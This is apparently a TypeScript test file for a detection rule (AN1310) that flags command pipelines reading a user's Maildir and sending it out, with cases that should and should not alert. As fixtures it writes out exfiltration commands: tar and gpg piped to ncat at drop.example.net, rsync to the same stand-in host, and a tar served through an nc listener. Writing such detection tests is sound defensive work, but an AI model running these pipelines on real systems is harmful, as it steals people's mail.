import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Nothing but starts of programs is recorded. */
function startsOnly(): HostLog {
  const log = new HostLog();
  log.deliver({ to: 'clerk' });
  log.wait(MINUTE);
  return log;
}
const NC = '/usr/bin/ncat --send-only drop.example.net 4444';

async function grades(...stages: string[]): Promise<string> {
  const log = startsOnly();
  log.cron('clerk', 'sh x.sh').pipeline(...stages);
  return (await scanLog(log)).map(({ analytic, severity }) => `${analytic} ${severity}`).join();
}

test('what a stage lists of a store, the one behind it reads that takes the names from its input', async () => {
  const log = startsOnly();
  log
    .cron('clerk', 'sh x.sh')
    .pipeline(
      '/usr/bin/find Maildir/new Maildir/cur -newer s -print0',
      '/usr/bin/tar --null -T - -czf -',
      '/usr/bin/gpg -c',
      NC,
    );
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.match(alert.story, /read the mail store of clerk with tar and sent it out with ncat/);
  assert.match(JSON.stringify(alert), /reads, in a mail store, \/home\/clerk\/Maildir\/new/);
  assert.equal(await grades('/bin/ls Maildir/new', '/usr/bin/cpio -o', NC), 'AN1310 medium');
  const direct = '/usr/bin/rsync --files-from=- . rsync://drop.example.net/in/';
  assert.equal(await grades('/usr/bin/find Maildir -type f', '/bin/head -20', direct), 'AN1310 medium');
});

test('another folder, a list of another, a stage that takes no names, and commands one after the other', async () => {
  assert.equal(await grades('/usr/bin/find papers -type f', '/usr/bin/tar -T - -czf -', NC), '');
  assert.equal(await grades('/usr/bin/find Maildir -type f', '/usr/bin/tar -T papers.txt -czf -', NC), '');
  assert.equal(await grades('/usr/bin/find Maildir -type f', '/usr/bin/wc -l', NC), '', 'their number alone');
  assert.equal(await grades('/usr/bin/find Maildir -mtime +30 -delete', '/usr/bin/tar -T - -czf -', NC), '');
  const log = startsOnly();
  const shell = log.shell('clerk');
  shell.run('/usr/bin/find Maildir -type f');
  log.wait(MINUTE);
  shell.pipeline('/bin/cat papers.txt', '/usr/bin/tar -T - -czf -', NC);
  assert.deepEqual(await scanLog(log), []);
});

test('a pipeline that ends in a tool that waits for whoever comes', async () => {
  const log = startsOnly();
  log.shell('clerk').pipeline('/bin/tar -cz Maildir', '/usr/bin/nc -lvnp 8090');
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.match(alert.story, /let other hosts take it from nc at \*:8090\.$/);
});
